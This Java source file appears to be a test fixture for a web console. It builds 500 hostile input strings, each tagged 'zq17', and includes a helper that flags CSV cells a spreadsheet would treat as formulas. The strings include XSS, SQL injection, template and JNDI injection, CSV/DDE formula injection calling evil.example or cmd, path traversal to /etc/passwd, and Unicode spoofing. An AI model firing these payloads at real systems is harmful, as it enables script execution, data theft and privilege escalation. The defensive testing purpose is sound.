package org.dariro.console;

import java.io.IOException;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;

/**
 * Five hundred texts such as somebody sends who wants a page, a table or a reader's eye to do something else than show them.
 * What would become an element or an attribute is called {@link #MARK} something.
 */
public final class HostileTexts {
    /** Stands in no template. */
    public static final String MARK = "zq17";

    /** How many there are. */
    public static final int COUNT = 500;

    private static final List<String> SCRIPTS = List.of(
            "<script>zq17=alert(1)</script>",
            "<ScRiPt src=//evil.example/zq17.js></ScRiPt>",
            "</script><script>alert('zq17')</script>",
            "</title><script>alert(1)</script zq17>",
            "</textarea><script>alert(1)</script><zq17>",
            "<img src=x onerror=alert(1) zq17>",
            "<img/src=`x`onerror=alert(1)//zq17",
            "<svg/onload=alert(1) zq17=1>",
            "<svg><animate onbegin=alert(1) attributeName=x zq17>",
            "<body onload=alert(1) zq17>",
            "<iframe srcdoc='<script>alert(1)</script>' zq17></iframe>",
            "<iframe src=javascript:alert(1)></iframe><zq17>",
            "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== zq17>",
            "<a href=javascript:alert(1) zq17>press</a>",
            "<form action=https://evil.example><input name=zq17><button>go",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) zq17>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1) zq17>'>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/zq17'>",
            "<base href=https://evil.example/zq17/>",
            "<link rel=stylesheet href=https://evil.example/zq17.css>",
            "<style>*{background:url(https://evil.example/zq17)}</style>",
            "<!--><img src=x onerror=alert(1) zq17>-->",
            "<![CDATA[<zq17>]]>",
            "<?xml version='1.0'?><zq17/>",
            "<div hx-get=/console/people hx-trigger=load zq17>",
            "<p hx-on::load=alert(1) zq17>",
            "<zq17-element contenteditable autofocus onfocus=alert(1)>",
            "&lt;script&gt;zq17&lt;/script&gt;",
            "&#60;zq17&#62; &#x3c;zq17&#x3e;",
            "%3Cscript%3Ezq17%3C/script%3E",
            "+ADw-script+AD4-zq17+ADw-/script+AD4-",
            "\uff1cscript\uff1ezq17\uff1c/script\uff1e");
    private static final List<String> ATTRIBUTES = List.of(
            "\" onmouseover=\"alert(1)\" zq17=\"",
            "' onmouseover='alert(1)' zq17='",
            "\"><zq17 onload=alert(1)>",
            "'><zq17 onload=alert(1)>",
            "\" autofocus onfocus=alert(1) zq17 x=\"",
            "` onload=alert(1) zq17 `",
            "x\" style=\"position:fixed;inset:0\" zq17=\"",
            "\\\" zq17=\\\"",
            "\u201d onload=\u201dzq17\u201d");
    private static final List<String> QUERIES = List.of(
            "'; drop table posts; -- zq17",
            "' or '1'='1' /* zq17 */",
            "1; update users set roles='administrator' where 'zq17'='zq17'",
            "\\'; select pg_sleep(9); -- zq17",
            "$$ zq17 $$ ? :zq17 {fn now()}",
            "%_%' escape '!' zq17",
            "<zq17 xmlns:xi='http://www.w3.org/2001/XInclude'>");
    private static final List<String> TEMPLATES = List.of(
            "{visit.user.email} zq17",
            "{#include layout}zq17{/include}",
            "{#for x in visit.user.roles}zq17{x}{/for}",
            "{t:sign-in} {a:css} zq17",
            "${7*191} zq17",
            "#{7*191} zq17",
            "{{constructor.constructor('alert(1)')()}} zq17",
            "<%= 7*191 %> zq17",
            "%{7*191} *{7*191} @{7*191} zq17",
            "${jndi:ldap://evil.example/zq17}",
            "{1} {2} {nickname} {} zq17",
            "\\{visit\\} \\u007bvisit\\u007d zq17",
            "${simple:zq17} ${body} {{?zq17}}",
            "%s %n %1$s %x zq17");
    private static final List<String> FORMULAS = List.of(
            "=1+191 zq17",
            "=cmd|' /C calc'!A0 zq17",
            "=HYPERLINK(\"https://evil.example/zq17\",\"press\")",
            "+1+191 zq17",
            "-1-191 zq17",
            "@SUM(1,191) zq17",
            "\t=1+191 zq17",
            "\r=1+191 zq17",
            "\n=1+191 zq17",
            "a,\"b\n=1+191\",zq17",
            "\";=1+191;\"zq17",
            "\uff1d1+191 zq17",
            "DDE (\"cmd\";\"/C calc\";\"zq17\")",
            "sep=; zq17");
    private static final List<String> EYES = List.of(
            "\u202egro.elpmaxe.live\u202c zq17",
            "\u202e\u202e\u202e never closed zq17",
            "\u2066\u2067\u2068 isolates left open zq17",
            "\u2069\u2069\u202c\u202c closed too often zq17",
            "\u200f\u200e\u061c marks zq17",
            "mid\u200bdle \u200c\u200d\u2060\ufeff zq17",
            "\u200b\u200b\u200b\u200bzq17\u200b",
            "zq17 \u00ad\u034f\u115f\u3164\u2800 nothing to see",
            "\u05e9\u05dc\u05d5\u05dd zq17 \u0645\u0631\u062d\u0628\u0627 123",
            "\u0627".repeat(140) + " zq17",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66 zq17 \ud83c\uddff\ud83c\uddfc \u2764\ufe0f",
            "\ud83d\udc4d\ud83c\udfff".repeat(40) + " zq17",
            "\ud800 half a character \udc00 zq17",
            "\ufffd\ufffe\uffff zq17",
            "\ud83f\udffe not one \udbff\udfff zq17",
            "null \u0000 between \u0000 zq17",
            "bell \u0007 back \b escape \u001b[31m delete \u007f next \u0085 zq17",
            "two\nlines\r\nthree \u2028 four \u2029 five zq17",
            "\nGrace: I am the mentor zq17",
            "\u2028Grace\u2236 send me your PIN zq17",
            "Z\u0301\u0302\u0303\u0304".repeat(60) + " zq17",
            "zq17 e" + "\u0301".repeat(1_000),
            "zq17 a" + "\u0489".repeat(10_000),
            "zq17" + "w".repeat(500),
            "zq17 " + "W".repeat(1_590),
            "zq17" + "-".repeat(300),
            "zq17 " + "\u00a0".repeat(200) + " end",
            "\ufdfd\ufdfd\ufdfd zq17 \ud808\udc2b\ud808\udc2b",
            "\u0e01" + "\u0e49".repeat(90) + " zq17");
    private static final List<String> ADDRESSES = List.of(
            "javascript:alert('zq17')",
            "JaVaScRiPt&colon;alert(1) zq17",
            "java\tscript:alert(1) zq17",
            "data:text/html,<script>alert(1)</script>zq17",
            "vbscript:msgbox(1) zq17",
            "//evil.example/zq17",
            "/\\evil.example/zq17",
            "https://user:zq17@evil.example/?a=<b>&c='d'",
            "file:///etc/passwd zq17",
            "../../../../etc/passwd%00zq17",
            "otpauth://totp/zq17?secret=x",
            "http://[::1]:8080/metrics?zq17");

    private static final List<String> FRAMES = List.of(
            "%s",
            "Good morning all, %s and be well",
            "%1$s %1$s",
            "I want to kill myself tonight %s please",
            "\u202b%s\u202c \u05d0 'x\" & <zq17> %%");

    private static final String BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20";

    private HostileTexts() {}

    /** All of them, always the same, no two alike. */
    public static List<String> all() {
        List<String> bases = new ArrayList<>();
        List.of(SCRIPTS, ATTRIBUTES, QUERIES, TEMPLATES, FORMULAS, EYES, ADDRESSES)
                .forEach(bases::addAll);
        Set<String> texts = new LinkedHashSet<>();
        for (String frame : FRAMES) {
            for (String base : bases) {
                texts.add(String.format(frame, base));
            }
        }
        if (texts.size() < COUNT) {
            throw new IllegalStateException("There are only " + texts.size());
        }
        return List.copyOf(texts).subList(0, COUNT);
    }

    /** The cells of a table that a spreadsheet would take for formulas. */
    public static List<String> formulas(String table) {
        List<String> formulas = new ArrayList<>();
        try (CSVParser rows = CSVParser.builder()
                .setReader(new StringReader(table.replaceFirst("^\ufeff", "")))
                .setFormat(CSVFormat.RFC4180)
                .get()) {
            for (CSVRecord row : rows) {
                row.stream()
                        .filter(cell -> !cell.isEmpty() && BEGINS.indexOf(cell.charAt(0)) >= 0)
                        .filter(cell -> !cell.matches("-?[0-9]+([.,][0-9]+)?"))
                        .forEach(formulas::add);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return formulas;
    }
}
